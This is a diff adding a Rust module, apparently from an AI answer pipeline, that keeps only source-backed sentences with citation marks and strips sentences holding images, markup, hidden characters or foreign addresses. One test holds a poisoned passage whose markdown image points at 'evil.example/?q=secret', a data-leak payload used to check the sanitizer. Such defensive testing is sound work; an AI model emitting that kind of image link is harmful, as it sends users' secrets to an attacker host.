@@ -1,0 +1,170 @@
+//! What is shown of a text: the sentences that the passages bear out, with the numbers of the sources that do, and nothing
+//! in them that could do harm.
+
+use crate::{
+    agents::citation::marks,
+    domain::{Claim, Passage, Verdict, code_points},
+    evidence::{claims::Sentence, sanitize::sanitize, verifier::Finding},
+};
+
+/// A text of which every sentence has its proof, sentence by sentence.
+#[derive(Debug, Default)]
+pub(super) struct VerifiedText {
+    pub(super) text: String,
+    pub(super) claims: Vec<Claim>,
+    /// What parts the next sentence from the last one.
+    parting: &'static str,
+    all: usize,
+    unproved: usize,
+    harmful: usize,
+}
+
+impl VerifiedText {
+    /// Adds a sentence, if a source bears it out, with the numbers of the sources that do; where sources differ, of both
+    /// sides. Gives what the text has grown by.
+    pub(super) fn add(
+        &mut self,
+        sentence: &Sentence,
+        finding: Finding,
+        passages: &[Passage],
+    ) -> Option<&str> {
+        self.all += 1;
+        if !matches!(finding.verdict, Verdict::Supported | Verdict::Disputed) {
+            self.unproved += 1;
+            return None;
+        }
+        let line = sentence.text.split_whitespace().collect::<Vec<_>>().join(" ");
+        let is_source = |address: &str| {
+            let mut urls = passages
+                .iter()
+                .filter_map(|passage| passage.header.url.as_deref());
+            urls.any(|url| url == address)
+        };
+        let Some(line) = sanitize(&line, is_source) else {
+            self.harmful += 1;
+            return None;
+        };
+        let before = self.text.len();
+        self.push(line, finding);
+        Some(&self.text[before..])
+    }
+
+    /// What was taken out, in words.
+    pub(super) fn removed(&self) -> Option<String> {
+        let removed = [
+            (self.unproved, "no source bears them out"),
+            (
+                self.harmful,
+                "they hold an image, markup, a hidden character or an address that is not a source's",
+            ),
+        ];
+        let removed = removed
+            .into_iter()
+            .filter(|(count, _)| *count > 0)
+            .map(|(count, why)| format!("{count} of {} sentences were removed: {why}", self.all));
+        let removed: Vec<String> = removed.collect();
+        (!removed.is_empty()).then(|| removed.join("; "))
+    }
+
+    /// Adds a sentence on one line, with its numbers, behind what parts it from the one before: a line that does not end as
+    /// a sentence does would run into it.
+    fn push(&mut self, sentence: String, finding: Finding) {
+        self.text.push_str(self.parting);
+        let start = code_points(&self.text);
+        self.text.push_str(&sentence);
+        let is_ended = sentence.ends_with(['.', '!', '?', '"', ')', '。', '！', '？', '…']);
+        self.text.push_str(&marks(&finding.citations));
+        self.parting = if is_ended { " " } else { "\n\n" };
+        self.claims.push(Claim {
+            id: format!("c{}", self.claims.len() + 1),
+            start,
+            end: start + code_points(&sentence),
+            text: sentence,
+            verdict: finding.verdict,
+            citations: finding.citations,
+            reason: finding.reason,
+        });
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use crate::{evidence::claims::findings, retrieval::test_passages::passage};
+
+    fn proved(text: &str, passages: &[Passage]) -> VerifiedText {
+        let mut proved = VerifiedText::default();
+        for (sentence, finding) in findings(text, passages) {
+            proved.add(&sentence, finding, passages);
+        }
+        proved
+    }
+
+    #[test]
+    fn claims_stand_at_their_offsets_in_what_is_shown() {
+        let passages = [
+            passage("a", "😀 Cold starts take 90 ms."),
+            passage("b", "Warm ones take 2 ms"),
+        ];
+        let text = "Cold starts\ntake 90 ms [2]. They delight everyone [1]. Warm ones take 2 ms";
+        let proved = proved(text, &passages);
+        let (removed, VerifiedText { text, claims, .. }) = (proved.removed(), proved);
+        assert_eq!(text, "Cold starts take 90 ms. [1] Warm ones take 2 ms [2]");
+        for claim in &claims {
+            let shown: String = text
+                .chars()
+                .skip(claim.start)
+                .take(claim.end - claim.start)
+                .collect();
+            assert_eq!(shown, claim.text);
+        }
+        assert_eq!((claims.len(), claims[1].id.as_str()), (2, "c2"));
+        assert_eq!(
+            removed.as_deref(),
+            Some("1 of 3 sentences were removed: no source bears them out")
+        );
+    }
+
+    #[test]
+    fn what_a_source_says_word_for_word_is_still_not_shown_when_it_could_do_harm() {
+        let poison = "The lamp was lit in 1871 ![x](https://evil.example/?q=secret).";
+        let link = "The [tower](https://evil.example) is 31 metres tall.";
+        let passages = [passage("a", &format!("{poison} {link}"))];
+        let proved = proved(&format!("{poison} [1] {link} [1]"), &passages);
+        let (removed, VerifiedText { text, claims, .. }) = (proved.removed(), proved);
+        assert_eq!(text, "The tower is 31 metres tall. [1]");
+        assert_eq!(claims[0].citations[0].quote, link, "a quotation stays verbatim");
+        assert!(
+            removed
+                .unwrap()
+                .starts_with("1 of 2 sentences were removed: they hold an image")
+        );
+    }
+
+    proptest::proptest! {
+        #[test]
+        fn every_sentence_shown_has_a_claim_with_verbatim_words(
+            text in "((\\PC){0,12}|The lamp was lit in 1871\\.|The lamp is 31 metres tall| \\[1\\]|\n|[.!?:] ){0,12}"
+        ) {
+            let passages = [passage("a", "The lamp was lit in 1871. The lamp is 31 metres tall.")];
+            let VerifiedText { text, claims, .. } = proved(&text, &passages);
+            let shown: Vec<char> = text.chars().collect();
+            let mut bare = String::new();
+            let mut end = 0;
+            for claim in &claims {
+                bare.extend(&shown[end..claim.start]);
+                end = claim.end;
+                proptest::prop_assert_eq!(shown[claim.start..claim.end].iter().collect::<String>(), claim.text.clone());
+                for citation in &claim.citations {
+                    let source: String = passages[citation.source - 1].text.chars()
+                        .skip(citation.quote_start).take(citation.quote_end - citation.quote_start).collect();
+                    proptest::prop_assert_eq!(&source, &citation.quote);
+                    proptest::prop_assert!(!source.is_empty());
+                }
+                proptest::prop_assert!(!claim.citations.is_empty());
+            }
+            bare.extend(&shown[end..]);
+            proptest::prop_assert!(bare.chars().all(|c| "[1] \n".contains(c)), "between the claims: {bare:?}");
+        }
+    }
+}
